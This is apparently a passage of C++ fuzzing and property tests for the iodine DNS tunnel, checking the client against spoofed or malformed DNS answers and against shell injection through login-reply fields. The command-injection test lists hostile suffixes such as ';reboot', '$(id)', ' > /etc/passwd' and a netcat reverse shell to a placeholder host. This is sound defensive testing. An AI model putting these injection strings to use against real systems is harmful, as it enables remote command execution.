	int honest_prefix; switch (t.pick({2, 3, 3, 3})) { case 0: honest_prefix = (int)t.below(4); break; case 1: honest_prefix = 4 + (int)t.below(16); break; case 2: honest_prefix = 20 + (int)t.below(60); break; default: honest_prefix = 100000; break; }
	uint32_t p_hostile = t.pick({2, 2, 1}) == 0 ? 900 : (t.chance(1, 2) ? 400 : 150);   // per-mille of queries answered with something hostile once the prefix is over
	bool tunnel_hostile = honest_prefix >= 100000;
	int hostile_at[S_NSTEPS] = {0}; int hostile_total = 0, max_records = 0, n_spoof = 0, n_control = 0, n_control_written = 0;
	Bytes canary;   // a packet that only ever appears in spoofed answers
	bool canary_legit = false;
	sim::Addr third = sim::Addr::v4(203, 0, 113, 99, 53);
	auto spoof_answer = [&](ScriptServer &S, const refproto::Query &q, const sim::Datagram &dg, bool bad_id, bool bad_char, bool from_third) {
		Bytes body(30 + t.below(60)); for (size_t i = 0; i < body.size(); i++) body[i] = (uint8_t)(0xC0 ^ (i * 11) ^ (uint8_t)n_spoof);
		Bytes pkt = scn::tun_packet(Bytes{10, 0, 0, 2}, Bytes{10, 0, 0, 1}, body, (uint16_t)(0xCA00 + n_spoof + n_control));
		Bytes z = refproto::zcompress(pkt);
		Bytes p = {(uint8_t)(0x80 | ((S.in_seq & 7) << 4) | (S.in_frag & 15)), (uint8_t)((((S.out_seq + 3) & 7) << 5) | 1)};
		p.insert(p.end(), z.begin(), z.end());
		std::string name = q.name; if (bad_char) name[0] = 'y';
		uint16_t id = q.id; if (bad_id) { id = (uint16_t)(q.id + 7 + t.below(20000)); for (uint16_t rid : S.recent_ids) if (rid == id) id = (uint16_t)(id + 1); }
		sim::Datagram a; a.src = from_third ? third : dg.dst; a.dst = dg.src; a.data = refproto::make_answer(id, name, q.qtype, p, S.downenc);
		sim::W.send(a);
		return pkt;
	};
	std::vector<Bytes> spoofed, controls;
	bool cut_pending = false; int cut_mode = 1, n_cut = 0; uint8_t cut_byte = 0; Bytes cut_data;
	int stream_left = 0, stream_seq = 0, stream_frag = 0;
	srv.policy = [&](ScriptServer &S, const refproto::Query &q, const sim::Datagram &dg, int step) -> bool {
		if (cut_pending) { sim::W.residue_mode = cut_mode; sim::W.residue_byte = cut_byte; sim::W.residue_data = cut_data; cut_pending = false; }
		bool in_tunnel = step == S_P || step == S_DATA;
		if (S.queries <= honest_prefix && !(tunnel_hostile && in_tunnel)) return false;
		if (in_tunnel && t.chance(1, 6)) {
			// oracle (ii): spoofed data answers that do not match the client's recent queries, and the matching control
			int kind = (int)t.pick({3, 3, 2});
			if (kind == 2) { controls.push_back(spoof_answer(S, q, dg, false, false, t.chance(1, 3))); n_control++; S.out_seq = (S.out_seq + 3) & 7; S.out_frag = 0; return true; }
			spoofed.push_back(spoof_answer(S, q, dg, kind == 0, kind == 1, t.chance(1, 2))); n_spoof++;
			return false;   // the honest answer still follows
		}
		// an endless downstream packet: consecutive fragments of one sequence number, never the last one, each as large as the
		// record type can carry (MX/SRV answers with ~200 records decode to ~30 KB): the client's 64 KB reassembly buffer must clamp
		if (in_tunnel && (stream_left > 0 || (tunnel_hostile && t.chance(1, 12)))) {
			if (stream_left <= 0) { stream_left = 3 + (int)t.below(6); stream_seq = (S.out_seq + 2) & 7; stream_frag = 0; }
			stream_left--;
			refproto::QAck qa; if (refproto::query_ack(q, qa) && qa.is_data) { S.in_seq = qa.up_seq; S.in_frag = qa.up_frag; }
			Bytes p = {(uint8_t)(0x80 | ((S.in_seq & 7) << 4) | (S.in_frag & 15)), (uint8_t)(((stream_seq & 7) << 5) | ((stream_frag & 15) << 1))};
			stream_frag++;
			size_t n = 20000 + t.below(40000);
			Bytes d(n); uint32_t x = t.u32() | 1; for (auto &b : d) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; b = (uint8_t)x; }
			p.insert(p.end(), d.begin(), d.end());
			S.answer(dg, q, p, S.downenc);
			hostile_total++; hostile_at[step]++; ms.hit("tunnel:endless-fragment-stream");
			return true;
		}
		if (t.below(1000) >= p_hostile) return false;
		hostile_total++; hostile_at[step]++;
		switch (t.pick({2, 1, 2, 6, 6, 1})) {
		case 0: ms.hit("policy:no-answer"); return true;
		case 1: S.honest(dg, q, step); ms.hit("policy:answer-twice"); return false;
		case 2: { Bytes b = mal::raw_bytes(t, ms); if (b.size() >= 2 && t.chance(1, 2)) { b[0] = (uint8_t)(q.id >> 8); b[1] = (uint8_t)q.id; } S.reply(dg, b); return true; }
		case 3: { int nrec = 0; S.reply(dg, mal::hostile_answer(t, q, ms, &nrec)); max_records = std::max(max_records, nrec); return t.chance(2, 3); }
		case 4: { Bytes p = hostile_payload(t, step, S, ms); char enc = t.chance(1, 2) ? S.downenc : "TSUVR"[t.below(5)]; S.answer(dg, q, p, enc); return true; }
		default: { Bytes f = refproto::raw_frame((int)t.below(16), t.chance(1, 2) ? S.userid : (int)t.below(16), t.bytes_of(t.below(400))); S.reply(dg, f); ms.hit("policy:raw-frame-in-dns-mode"); return t.chance(1, 2); }
		}
	};
	srv.raw_policy = [&](ScriptServer &S, const sim::Datagram &dg) -> bool {
		if (cut_pending) { sim::W.residue_mode = cut_mode; sim::W.residue_byte = cut_byte; sim::W.residue_data = cut_data; cut_pending = false; }
		if (S.queries <= honest_prefix && !tunnel_hostile) return false;
		if (!t.chance(1, 3)) return false;
		hostile_total++; hostile_at[S_RAWLOGIN]++;
		if (t.chance(1, 4)) {
			// a raw frame cut short (1..3 bytes: not even a complete header; or cut inside the body).  It is no frame, so it must be ignored;
			// in the plain runs the receive buffer holds, behind the datagram, the rest of a complete data frame for this very session -- what
			// is left there when the complete frame arrived just before -- whose packet must never come out of the client's tun device
			Bytes X = scn::tun_packet(Bytes{10, 0, 0, 2}, Bytes{10, 0, 0, 1}, t.bytes_of(20 + t.below(60)), (uint16_t)(0x6600 + n_cut));
			Bytes full = refproto::raw_frame(2, S.userid, refproto::zcompress(X));
			size_t k = t.chance(3, 4) ? 1 + t.below(3) : 4 + t.below((uint32_t)(full.size() - 5));
			Bytes head(full.begin(), full.begin() + k), rest(full.begin() + k, full.end());
			if (!opt.force_residue) { cut_mode = sim::W.residue_mode; cut_byte = sim::W.residue_byte; cut_data = sim::W.residue_data; sim::W.residue_mode = 2; sim::W.residue_data = rest; cut_pending = true; }
			spoofed.push_back(X); n_cut++;
			S.reply(dg, head);
			ms.hit("policy:raw-frame-cut-short");
			return t.chance(1, 2);
		}
		size_t n; switch (t.pick({3, 3, 1})) { case 0: n = t.below(24); break; case 1: n = t.below(2000); break; default: n = 60000 + t.below(5000); break; }
		Bytes body = t.chance(1, 3) ? refproto::zcompress(scn::tun_packet(Bytes{10, 0, 0, 2}, Bytes{10, 0, 0, 1}, t.bytes_of(std::min<size_t>(n, 3000)), 9)) : t.bytes_of(n);
		S.reply(dg, refproto::raw_frame((int)t.below(16), t.chance(2, 3) ? S.userid : (int)t.below(16), body));
		ms.hit("policy:hostile-raw-frame");
		return t.chance(1, 2);
	};
	s.start_client(0);
	uint64_t end = sim::W.now + 150000000ull;
	bool up = false; int offered = 0;
	while (sim::W.now < end && !sim::W.livelock && s.cli[0]->state != sim::ST_EXITED) {
		sim::W.run_until(std::min(end, sim::W.now + 200000));
		if (!up && s.client_up(0)) { up = true; end = sim::W.now + 12000000ull; }
		if (up && offered < 6 && t.chance(1, 3)) {
			offered++;
			if (t.chance(1, 2)) sim::W.offer_tun(s.cli[0], scn::gen_packet(t, Bytes{10, 0, 0, 1}, Bytes{10, 0, 0, 2}, (uint16_t)offered, 900));
			else srv.out_queue.push_back(scn::gen_packet(t, Bytes{10, 0, 0, 2}, Bytes{10, 0, 0, 1}, (uint16_t)(100 + offered), 900));
		}
		if (hostile_total > 400) break;
	}
	dif::finish(opt);
	// oracle (ii)
	(void)canary; (void)canary_legit;
	for (auto &e : tm.ev) if (e.write && e.inst == s.cli[0]->idx) {
		for (auto &sp : spoofed) if (sp == e.data) r.fail("C06:unmatched-reply-delivered", "a spoofed data answer that does not match the client's recent queries (wrong id or wrong first name character) was written to the client's tun device");
		for (auto &ct : controls) if (ct == e.data) n_control_written++;
	}
	std::string steps;
	for (int k = 0; k < S_NSTEPS; k++) if (hostile_at[k]) steps += fmt(" %s:%d", STEPNAME[k], hostile_at[k]);
	r.render = c.describe() + fmt(" | server saw %d queries, honest prefix %d, hostile answers %d (%s ) max MX/SRV records %d, tunnel reached=%d exit=%s spoofs=%d controls=%d (written %d)", srv.queries, honest_prefix > 99999 ? -1 : honest_prefix, hostile_total, steps.c_str(), max_records, (int)up, s.cli[0]->state == sim::ST_EXITED ? std::to_string(s.cli[0]->exit_code).c_str() : "running", n_spoof, n_control, n_control_written);
	if (sim::W.livelock) r.fail("C06:no-return-to-select", "the client did not return to select() (200000 scheduler steps without virtual time advancing)\n" + r.render + "\n" + s.cli[0]->log.substr(0, 400));
	if (!r.ok && r.why.find(r.render) == std::string::npos) r.why += "\n" + r.render;
	bool deep = false; for (int k = 0; k < S_NSTEPS; k++) if (hostile_at[k] && k != S_Y && k != S_V && k != S_L) deep = true;
	r.nontrivial = hostile_total > 0 && (deep || max_records >= 17 || ms.kinds.count("ans:rdlength-lies"));
	for (auto &kv : ms.kinds) r.cls(kv.first);
	for (int k = 0; k < S_NSTEPS; k++) if (hostile_at[k]) r.cls(std::string("hostile-at:") + STEPNAME[k]);
	if (up) r.cls("tunnel-phase-reached");
	for (auto &kv : ms.kinds) if (kv.first.find("truncated") != std::string::npos || kv.first.find("past-end") != std::string::npos || kv.first.find("rdlength-lies") != std::string::npos || kv.first.find("overruns") != std::string::npos || kv.first.find("unterminated") != std::string::npos || kv.first.find("pointer") != std::string::npos) r.cls("residue-sensitive-shape");
	if (n_spoof) r.cls("spoofed-unmatched-answer");
	if (n_control_written) r.cls("control-answer-delivered");
	r.cls(std::string("type:") + refproto::qtype_name(c.qtype));
	return r;
}

// Handshake steps answered honestly, but in front of many honest answers travels a reply that fits the waiting step in only ONE
// respect -- the right DNS id under another step's name, or the right name under a wrong id -- and carries a valid but different
// payload for that step (another challenge and user id, other tunnel addresses, another codec name, another fragment size).
// "Replies that do not match its recent queries are ignored": the client must finish the handshake with the honest values.
static CaseResult handshake_spoof_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.qtype = 1 + (int)t.below(7);
	c.downenc = (int)t.pick({3, 1, 1, 1, 1, 1});
	c.frag = t.chance(1, 2) ? -1 : t.range(50, 1000);
	c.lazy = t.chance(1, 3) ? 0 : 1;
	c.raw_mode = false;
	c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	ScriptServer srv; srv.domain = c.domain; srv.password = Bytes(c.password.begin(), c.password.end());
	srv.seed = t.u32(); srv.userid = (int)t.below(16);
	srv.login_reply = "10.0.0.1-10.0.0.2-1130-27";
	srv.attach();
	uint32_t p_spoof = (uint32_t)t.range(200, 900);
	int n_spoof = 0, n_badid = 0, n_badname = 0; int at[S_NSTEPS] = {0};
	srv.policy = [&](ScriptServer &S, const refproto::Query &q, const sim::Datagram &dg, int step) -> bool {
		if (step == S_P || step == S_DATA || step == S_OTHER) return false;
		if (t.below(1000) >= p_spoof) return false;
		Bytes p; char enc = 'T';
		switch (step) {
		case S_V: { uint32_t sd = S.seed ^ 0x5a5a5a5a; p = Bytes{'V', 'A', 'C', 'K', (uint8_t)(sd >> 24), (uint8_t)(sd >> 16), (uint8_t)(sd >> 8), (uint8_t)sd, (uint8_t)((S.userid + 5) & 15)}; break; }
		case S_L: { std::string l = "10.9.9.1-10.9.9.2-1400-24"; p.assign(l.begin(), l.end()); enc = S.downenc; break; }
		case S_I: p = Bytes{'I', 203, 0, 113, 7}; break;
		case S_S: { std::string l = "Base32"; p.assign(l.begin(), l.end()); enc = S.downenc; break; }
		case S_O: { std::string l = "BADCODEC"; p.assign(l.begin(), l.end()); enc = S.downenc; break; }
		case S_N: p = Bytes{0, 9}; enc = S.downenc; break;
		case S_R: { p = Bytes{0, 7, 107, 1, 2, 3, 4}; enc = S.downenc; break; }
		default: { p.assign(DCC1, DCC1 + 48); p[5] ^= 0x40; break; }   // codec tests: a corrupted pattern
		}
		bool badid = t.chance(1, 2);
		std::string name = q.name; uint16_t id = q.id;
		if (badid) { id = (uint16_t)(q.id + 1 + t.below(60000)); n_badid++; }
		else { static const char OTHER[] = "vlizsoyrn"; char ch = OTHER[t.below(9)]; if (tolower((unsigned char)name[0]) == ch) ch = ch == 'v' ? 'z' : 'v'; name[0] = ch; n_badname++; }
		S.reply(dg, refproto::make_answer(id, name, q.qtype, p, enc, 1, 2));
		n_spoof++; at[step]++;
		return false;   // the honest answer follows
	};
	s.start_client(0);
	bool up = s.wait_handshake(0, 150);
	std::string steps; for (int k = 0; k < S_NSTEPS; k++) if (at[k]) steps += fmt(" %s:%d", STEPNAME[k], at[k]);
	std::string cmds; for (auto &cmd : s.cli[0]->system_calls) cmds += cmd + " ; ";
	r.render = c.describe() + fmt(" | half-matching replies in front of honest answers: %d (wrong id %d, wrong name %d;%s ) handshake=%d commands: %s", n_spoof, n_badid, n_badname, steps.c_str(), (int)up, cmds.substr(0, 300).c_str());
	if (sim::W.livelock) r.fail("C06:no-return-to-select", "the client did not return to select()\n" + r.render);
	else if (!up) r.fail("C06:half-matching-reply-used", "the handshake failed although every step got its honest answer; a reply matching the waiting step only in id or only in name was not ignored\n" + r.render + "\n" + s.cli[0]->log.substr(s.cli[0]->log.size() > 600 ? s.cli[0]->log.size() - 600 : 0));
	else if (cmds.find("10.9.9.") != std::string::npos || cmds.find("10.0.0.2") == std::string::npos) r.fail("C06:half-matching-reply-used", "the client configured its interface from a login reply that did not match its query\n" + r.render);
	r.nontrivial = n_spoof >= 3;
	r.cls("handshake-half-matching-replies");
	for (int k = 0; k < S_NSTEPS; k++) if (at[k]) r.cls(std::string("half-match-at:") + STEPNAME[k]);
	return r;
}

// Handshake steps that are answered with a SHORT reply (1..5 bytes, e.g. the first letters of a keyword) right behind a reply the
// client has to ignore (wrong DNS id) that carries a complete keyword or value of the same step.  Differential (C12): the TEXT of
// the ignored replies differs between the two runs (opt.variant), their lengths and everything else are the same.  "Replies that do not
// match its recent queries are ignored" and "a datagram is interpreted from its own bytes only": what the client does next must not
// depend on what the ignored reply left in the buffer its decoder wrote to.
static CaseResult handshake_short_reply_case(Tape &t, const dif::CaseOpt &opt)
{
	CaseResult r;
	scn::Config c;
	c.qtype = 1 + (int)t.below(7);
	c.downenc = (int)t.pick({3, 1, 1, 1, 1, 1});
	c.frag = t.chance(1, 2) ? -1 : t.range(50, 1000);
	c.lazy = t.chance(1, 3) ? 0 : 1;
	c.raw_mode = false;
	c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	dif::apply_residue(opt);
	dif::record(opt);
	ScriptServer srv; srv.domain = c.domain; srv.password = Bytes(c.password.begin(), c.password.end());
	srv.seed = t.u32(); srv.userid = (int)t.below(16);
	srv.login_reply = "10.0.0.1-10.0.0.2-1130-27";
	srv.attach();
	uint32_t p_short = (uint32_t)t.range(150, 700);
	int n_short = 0; int at[S_NSTEPS] = {0};
	int variant = opt.variant & 1;
	srv.policy = [&](ScriptServer &S, const refproto::Query &q, const sim::Datagram &dg, int step) -> bool {
		if (step != S_S && step != S_O && step != S_N && step != S_L && step != S_V) return false;
		if (t.below(1000) >= p_short) return false;
		// the complete text the ignored reply carries: run 0 and run 1 differ in content, not in length
		static const char *FULL[2][5] = {{"BADCODEC", "Lazy", "BADFRAG", "LNAK", "VNAKxxxxx"}, {"Base32\0\0", "Nope", "\0\x64goodx", "10.0", "VACKxxxxx"}};
		static const size_t FLEN[5] = {8, 4, 7, 4, 9};
		int k = step == S_S ? 0 : (step == S_O ? 1 : (step == S_N ? 2 : (step == S_L ? 3 : 4)));
		Bytes full((const uint8_t *)FULL[variant][k], (const uint8_t *)FULL[variant][k] + FLEN[k]);
		Bytes common((const uint8_t *)FULL[0][k], (const uint8_t *)FULL[0][k] + FLEN[k]);
		char enc = (step == S_V) ? 'T' : S.downenc;
		// (sent from the address of an off-path party when the transcript is recorded, so that the recorder can leave it out: its content
		// is the one thing that differs between the two runs)
		{ sim::Datagram x; x.src = opt.perturb ? opt.perturb_addr : dg.dst; x.dst = dg.src; x.data = refproto::make_answer((uint16_t)(q.id + 1 + t.below(60000)), q.name, q.qtype, full, enc, 1, 2); sim::W.send(x); }
		// the matching reply: only the first 1..5 bytes of the keyword (the same in both runs)
		size_t cut = 1 + t.below((uint32_t)std::min<size_t>(5, FLEN[k] - 1));
		Bytes shortp(common.begin(), common.begin() + cut);
		S.reply(dg, refproto::make_answer(q.id, q.name, q.qtype, shortp, enc, 1, 2));
		n_short++; at[step]++;
		return t.chance(1, 2);   // half of the time the honest answer follows as well (it arrives as a late duplicate)
	};
	s.start_client(0);
	bool up = s.wait_handshake(0, 150);
	if (up) sim::W.run_for(2000000);
	std::string steps; for (int k = 0; k < S_NSTEPS; k++) if (at[k]) steps += fmt(" %s:%d", STEPNAME[k], at[k]);
	r.render = c.describe() + fmt(" | short replies behind ignored complete ones: %d (%s ) handshake=%d", n_short, steps.c_str(), (int)up);
	if (sim::W.livelock) r.fail("C06:no-return-to-select", "the client did not return to select()\n" + r.render);
	dif::finish(opt);
	r.nontrivial = n_short >= 1;
	r.cls("handshake-short-replies-behind-ignored-ones");
	if (n_short) r.cls("residue-sensitive-shape");
	for (int k = 0; k < S_NSTEPS; k++) if (at[k]) r.cls(std::string("short-reply-at:") + STEPNAME[k]);
	return r;
}

} // namespace c06
