// C14 -- the server never sends unsolicited or surplus DNS answers; lazy mode holds back at most two queries.
// Real iodined + 1..3 scripted sessions; pings, data, duplicates of pending queries (new id / other relay
// address), tun arrivals, upstream packets addressed to another session (forwarded by the server itself), timer steps around the 20 ms send-real-soon timer.  Oracle: credit accounting of the
// wire monitor (sim/monitors.cc).
#include "session_common.h"
using namespace hz;

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	ses::Profile P;
	P.w_ping = 6; P.w_up = 5; P.w_offer = 3; P.w_adv = 4; P.w_nreq = 1; P.w_redeliver = 5; P.w_freeze = 1; P.w_rawmix = 1; P.w_recycle = 1; P.recycle_moves = true;
	P.max_sessions = 3; P.max_body = 600; P.c2c = true; P.wild = true; P.qr_games = true;
	ses::Run R;
	ses::run_sessions(t, P, R);
	r.render = R.render;
	if (sim::W.livelock) r.fail("C14:livelock", "simulation did not make progress");
	if (!R.up) { r.fail("C14:setup", "scripted handshake failed: " + R.render); return r; }
	if (R.v.failed("C14")) r.fail(R.v.first["C14"].sig, R.v.first["C14"].why + "\n" + R.render);
	bool anylazy = false; for (auto &p : R.peers) anylazy |= p->lazy;
	r.nontrivial = R.n_dup_twice >= 1 || (R.n_red_pending >= 1 && R.wm.max_held >= 2);
	r.cls(std::string("type:") + refproto::qtype_name(R.cfg.qtype));
	r.cls(anylazy ? "lazy" : "immediate");
	if (R.n_dup_twice) r.cls("pending-duplicate-answered-twice");
	if (R.wm.max_held >= 2) r.cls("two-held");
	if (R.peers.size() > 1) r.cls("multi-session");
	if (R.n_recycled) r.cls("slot-expired-and-reused"); if (R.n_recycled_moved) r.cls("new-session-from-another-port");
	if (R.n_raw) r.cls("raw-mode-frames-mixed-in");
	if (R.n_c2c) r.cls("client-to-client-packets");
	if (!R.cfg.srv_domain.empty()) r.cls("wildcard-domain");
	if (R.n_qr) r.cls("response-shaped-datagram-sent");
	if (R.n_hsreq) r.cls("handshake-type-request-mid-session");
	if (R.n_optswitch) r.cls("lazy-mode-switched-mid-session");
	if (R.n_infra) r.cls("infrastructure-query:ns-www-A-or-NS");
	if (R.n_red_altdomain) r.cls("same-payload-under-another-sub-domain");
	return r;
}

int main(int argc, char **argv)
{
	PropDef d; d.id = "C14"; d.run = run_case; d.tape_scale = 6.0;
	return harness_main(argc, argv, d);
}
