// C13 -- peer-supplied text never reaches a shell; only validated numbers do.
// The REAL iodine client (every -T type or autodetect) talks to a scripted server that completes the version
// step honestly and then sends a generated login reply under any downstream encoding.  Every string the client
// passes to system() is split into words; each word must be one of the fixed words of a benign run, a strict
// dotted quad, or a decimal integer in the accepted range.
#include "client_common.h"
using namespace hz;
using namespace cli;

static bool strict_quad(const std::string &s)
{
	int fields = 0; size_t i = 0;
	while (true) {
		int digits = 0, val = 0;
		while (i < s.size() && s[i] >= '0' && s[i] <= '9') { val = val * 10 + (s[i] - '0'); digits++; i++; if (digits > 3 || val > 255) return false; }
		if (!digits) return false;
		fields++;
		if (i == s.size()) return fields == 4;
		if (s[i] != '.' || fields == 4) return false;
		i++;
	}
}

static const char *SHELL[] = {";reboot", " ;id", "|sh", " | nc 1.2.3.4 9 -e sh", "$(id)", " $(touch /tmp/x)", "`id`", " `id`", "&&id", " && id", "\nid", " \nreboot\n", "\tid", "'", "\"", ">x", " > /etc/passwd", " # ", "\\", "${IFS}id", "%s%n", " -h", " up;id"};

static std::string gen_addr_field(Tape &t, int *kind)
{
	static const char *ODD[] = {"10.2", "0x0a.1.2.3", "010.1.1.1", "1.2.3.4.5", "256.1.1.1", "1.2.3", "1..2.3", ".1.2.3.4", "1.2.3.4.", "10.0.0.2/8", "localhost", "a.b.c.d", "", "4294967295", "1.2.3.-4", "+1.2.3.4", "1.2.3.4 ", " 1.2.3.4", "999.999.999.999", "00000000010.0.0.1"};
	std::string s;
	*kind = (int)t.pick({5, 6, 3, 2, 2, 2, 3});
	std::string valid = fmt("%u.%u.%u.%u", t.below(256), t.below(256), t.below(256), t.below(256));
	switch (*kind) {
	case 0: s = valid; break;
	case 1: s = valid + SHELL[t.below(sizeof SHELL / sizeof SHELL[0])]; break;
	case 2: s = ODD[t.below(sizeof ODD / sizeof ODD[0])]; if (t.chance(1, 2)) s += SHELL[t.below(sizeof SHELL / sizeof SHELL[0])]; break;
	case 3: s = SHELL[t.below(sizeof SHELL / sizeof SHELL[0])]; break;
	case 6: {   // four valid decimal fields, but one to three of the separating dots replaced by another single byte
		s = valid; int nrep = 1 + (int)t.below(3);
		for (int k = 0; k < nrep; k++) {
			std::vector<size_t> dots; for (size_t i = 0; i < s.size(); i++) if (s[i] == '.') dots.push_back(i);
			if (dots.empty()) break;
			char c = t.chance(2, 3) ? " \n\t;|&`$>,:/"[t.below(13)] : (char)(1 + t.below(255));
			if (c == '-' || c == 0) c = ' ';
			s[dots[t.below((uint32_t)dots.size())]] = c;
		}
		break;
	}
	case 4: { size_t n = 60 + t.below(140); for (size_t i = 0; i < n; i++) s += (char)("0123456789.;|$` \n"[t.below(17)]); break; }
	default: { size_t n = t.below(40); for (size_t i = 0; i < n; i++) { char c = (char)t.below(256); if (c == '-') c = '_'; s += c; } break; }
	}
	return s;
}

static std::string gen_int_field(Tape &t, int *kind, bool mtu)
{
	static const long long V[] = {-2147483648LL, -1, 0, 1, 31, 32, 33, 200, 201, 1500, 1501, 2147483647LL, 4294967296LL, 99999999999999LL};
	*kind = (int)t.pick({5, 3, 3, 2});
	switch (*kind) {
	case 0: return std::to_string(mtu ? 201 + (int)t.below(1300) : (int)t.below(33));
	case 1:
		// values that only look valid after truncation to 16 or 32 bits: k * 2^16 + r, k * 2^32 + r and their negatives, r a valid value
		if (t.chance(1, 3)) { long long r = mtu ? 201 + (long long)t.below(1300) : (long long)t.below(33); long long k = 1 + (long long)t.below(3); long long unit = t.chance(2, 3) ? 65536LL : 4294967296LL; return std::to_string(t.chance(1, 3) ? r - k * unit : r + k * unit); }
		return std::to_string(V[t.below(sizeof V / sizeof V[0])]);
	case 2: return std::to_string(mtu ? 1130 : 27) + SHELL[t.below(sizeof SHELL / sizeof SHELL[0])];
	default: { std::string s; size_t n = t.below(12); for (size_t i = 0; i < n; i++) s += (char)("0123456789 -+x;$"[t.below(16)]); return s; }
	}
}

extern "C" {
int tun_setip(const char *ip, const char *other_ip, int netbits);
int tun_setmtu(const unsigned mtu);
int bsd_tun_setip(const char *ip, const char *other_ip, int netbits);
int bsd_tun_setmtu(const unsigned mtu);
}

// every word of a command: a fixed word, a strict dotted quad (optionally followed by /prefix-length), or an integer 201..1500
static std::string judge_command(const std::string &cmd)
{
	static const char *WORDS[] = {"PATH=/sbin:/bin", "ifconfig", "dns0", "netmask", "mtu", "/sbin/ifconfig", "/sbin/route", "route", "add", ""};
	for (unsigned char ch : cmd) if (ch < 0x20 || ch == 0x7f) return "a command passed to system() contains a control character: " + json_escape(cmd);
	size_t i = 0;
	while (i <= cmd.size()) {
		size_t j = cmd.find(' ', i); if (j == std::string::npos) j = cmd.size();
		std::string w = cmd.substr(i, j - i);
		bool ok = false;
		for (const char *fw : WORDS) if (w == fw) ok = true;
		if (!ok && strict_quad(w)) ok = true;
		if (!ok) { size_t sl = w.find('/'); if (sl != std::string::npos && strict_quad(w.substr(0, sl))) { std::string n = w.substr(sl + 1); if (!n.empty() && n.size() <= 2 && n.find_first_not_of("0123456789") == std::string::npos && atoi(n.c_str()) <= 32) ok = true; } }
		if (!ok && !w.empty() && w.size() <= 4 && w.find_first_not_of("0123456789") == std::string::npos) { int v = atoi(w.c_str()); ok = v >= 201 && v <= 1500 && w[0] != '0'; }
		if (!ok) return "word '" + json_escape(w) + "' of the command passed to system() is neither a fixed word, a strict dotted quad nor an integer in the accepted range: " + json_escape(cmd);
		i = j + 1;
	}
	return "";
}

// unit case: tun_setip / tun_setmtu called directly (the arguments handshake_login passes on), in the Linux flavour and in the BSD
// flavour of tun.c (which puts the server address on the command line and adds a route command)
static CaseResult unit_case(Tape &t)
{
	CaseResult r;
	int k1 = 0, k2 = 0, k3 = 0;
	std::string ip = gen_addr_field(t, &k1).substr(0, 64), other = gen_addr_field(t, &k2).substr(0, 64);
	if (ip.find('-') != std::string::npos) ip = ip.substr(0, ip.find('-'));          // sscanf("%64[^-]") stops at '-'
	if (other.find('-') != std::string::npos) other = other.substr(0, other.find('-'));
	ip = ip.substr(0, ip.find('\0')); other = other.substr(0, other.find('\0'));
	static const long long NB[] = {-2147483647LL - 1, -1, 0, 1, 8, 24, 27, 30, 31, 32, 33, 64, 2147483647LL};
	int netbits = t.chance(1, 2) ? (int)t.below(33) : (int)NB[t.below(13)];
	static const long long MT[] = {-1, 0, 1, 200, 201, 1130, 1500, 1501, 65535, 4294967295LL, 65536 + 201, 65536 + 1130, 65536 + 1500, 131072 + 1130, 4294902960LL, 4294967296LL - 65536 + 201, 256 + 200, 65536 + 200, 65536 + 1501};
	unsigned mtu = t.chance(1, 2) ? 201 + t.below(1300) : (unsigned)MT[t.below(19)];
	(void)k3;
	bool bsd = t.chance(1, 2);
	sim::W.unit_system.clear();
	int rc1 = bsd ? bsd_tun_setip(ip.c_str(), other.c_str(), netbits) : tun_setip(ip.c_str(), other.c_str(), netbits);
	int rc2 = bsd ? bsd_tun_setmtu(mtu) : tun_setmtu(mtu);
	std::vector<std::string> sys = sim::W.unit_system;
	sim::W.unit_system.clear();
	r.render = fmt("unit(%s): tun_setip(\"%s\", \"%s\", %d)=%d tun_setmtu(%u)=%d -> %zu commands", bsd ? "BSD" : "Linux", json_escape(ip.substr(0, 50)).c_str(), json_escape(other.substr(0, 50)).c_str(), netbits, rc1, mtu, rc2, sys.size());
	for (auto &cmd : sys) { r.render += " | " + json_escape(cmd); std::string e = judge_command(cmd); if (!e.empty()) r.fail(bsd ? "C13:peer-text-in-command:bsd" : "C13:peer-text-in-command", e); }
	bool plain = strict_quad(ip) && strict_quad(other) && netbits >= 0 && netbits <= 32;
	if (plain && sys.empty()) r.fail("C13:control", "valid addresses and prefix length produced no configuration command: " + r.render);
	r.nontrivial = !plain || mtu <= 200 || mtu > 1500;
	r.cls(bsd ? "unit:bsd-templates" : "unit:linux-templates");
	if (!sys.empty()) r.cls("commands-executed");
	return r;
}

static CaseResult system_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	c.qtype = (int)t.pick({2, 4, 1, 3, 2, 2, 2, 2});        // 0 = autodetect
	c.raw_mode = false; c.frag = 100; c.lazy = 0;
	c.cli_seed = t.u32() | 1;
	scn::Session s(c);
	ScriptServer srv; srv.domain = c.domain; srv.password = Bytes(c.password.begin(), c.password.end());
	srv.seed = t.u32(); srv.userid = (int)t.below(16);
	srv.attach();
	bool benign = t.chance(1, 12);
	int k1 = 0, k2 = 0, k3 = 0, k4 = 0;
	std::string reply;
	bool whole_random = !benign && t.chance(1, 8);
	if (benign) reply = fmt("10.%u.%u.1-10.%u.%u.2-%d-%d", t.below(256), t.below(256), t.below(256), t.below(256), 201 + (int)t.below(1300), 1 + (int)t.below(32));
	else if (whole_random) { size_t n = t.below(300); for (size_t i = 0; i < n; i++) reply += (char)(t.chance(1, 6) ? '-' : t.below(256)); }
	else {
		std::string f1 = gen_addr_field(t, &k1), f2 = gen_addr_field(t, &k2), f3 = gen_int_field(t, &k3, true), f4 = gen_int_field(t, &k4, false);
		reply = f1 + "-" + f2 + "-" + f3 + "-" + f4;
		if (t.chance(1, 10)) reply += std::string(1, '\0') + "trailer";
	}
	char enc = "TSUVR"[t.below(5)];
	int login_seen = 0;
	srv.policy = [&](ScriptServer &S, const refproto::Query &q, const sim::Datagram &dg, int step) {
		if (step != S_L) return false;
		login_seen++;
		S.answer(dg, q, Bytes(reply.begin(), reply.end()), enc);
		return true;
	};
	s.start_client(0);
	// run until the client is past the login step (first query of a later step), has exited, or 40 virtual seconds passed
	uint64_t end = sim::W.now + 40000000ull;
	while (sim::W.now < end && !sim::W.livelock && s.cli[0]->state != sim::ST_EXITED) {
		sim::W.run_until(std::min(end, sim::W.now + 200000));
		if (srv.nq[S_Z] + srv.nq[S_S] + srv.nq[S_O] + srv.nq[S_R] + srv.nq[S_N] + srv.nq[S_P] > 0 || (login_seen && srv.nq[S_Y] > 6)) break;
		if (login_seen >= 5) { sim::W.run_for(6000000); break; }
	}
	const std::vector<std::string> &sys = s.cli[0]->system_calls;
